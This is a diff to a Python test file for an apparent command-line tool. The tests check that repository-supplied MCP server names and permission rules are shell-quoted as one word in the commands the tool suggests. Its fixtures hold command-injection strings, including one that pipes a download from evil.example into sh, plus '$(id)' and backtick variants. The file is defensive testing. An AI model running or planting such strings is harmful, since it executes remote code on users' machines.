@@ -1,4 +1,4 @@
-"""T245: a command that a person is advised to type runs nothing else, whatever names a repository has."""
+"""T245: a command that is suggested to a person runs nothing else, whatever names a repository contains."""
 
 import shlex
 from pathlib import Path
@@ -17,12 +17,12 @@ RULE = "Bash(x'; curl evil.example | sh; ')"
 
 
 @pytest.mark.parametrize("name", [NAME, "a'; id; '", "$(id)", "`id`", "-rf"])
-def test_t245_a_typed_name_is_one_word(name: str):
+def test_t245_a_typed_name_is_quoted_as_one_word(name: str):
     assert shlex.split(shell_quoted(name))[-1] == name
     assert len(shlex.split(shell_quoted(name))) == 1 + name.startswith("-")
 
 
-async def test_t245_an_entry_that_is_not_approved_is_one_word(
+async def test_t245_an_unapproved_entry_is_quoted_as_one_word(
     desk: Desk, home: Path, monkeypatch: pytest.MonkeyPatch
 ):
     projects.write(home / "work/.mcp.json", projects.servers(**{NAME: {"command": "true"}}))
@@ -32,7 +32,9 @@ async def test_t245_an_entry_that_is_not_approved_is_one_word(
         assert f"dragoman mcp approve '{NAME}'" in seat.text
 
 
-async def test_t245_a_rule_of_a_file_is_one_word(desk: Desk, home: Path, monkeypatch: pytest.MonkeyPatch):
+async def test_t245_a_rule_of_a_file_is_quoted_as_one_word(
+    desk: Desk, home: Path, monkeypatch: pytest.MonkeyPatch
+):
     projects.write(home / "work/.dragoman/settings.local.json", {"permissions": {"deny": [RULE]}})
     monkeypatch.chdir(home / "work")
     async with desk.opened(is_configured=True, mode="default", size=(140, 40)) as seat:
@@ -43,7 +45,7 @@ async def test_t245_a_rule_of_a_file_is_one_word(desk: Desk, home: Path, monkeyp
         assert seat.shown(".problem").endswith(f"dragoman permissions remove {shlex.quote(RULE)}")
 
 
-def test_t245_the_server_of_a_sign_in_is_one_word(home: Path):
+def test_t245_the_server_of_a_sign_in_is_quoted_as_one_word(home: Path):
     entry = {"type": "http", "url": "https://example.com/mcp"}
     projects.user(home, {"mcpServers": {NAME: entry}})
     shown = run("mcp", "whoami", NAME)
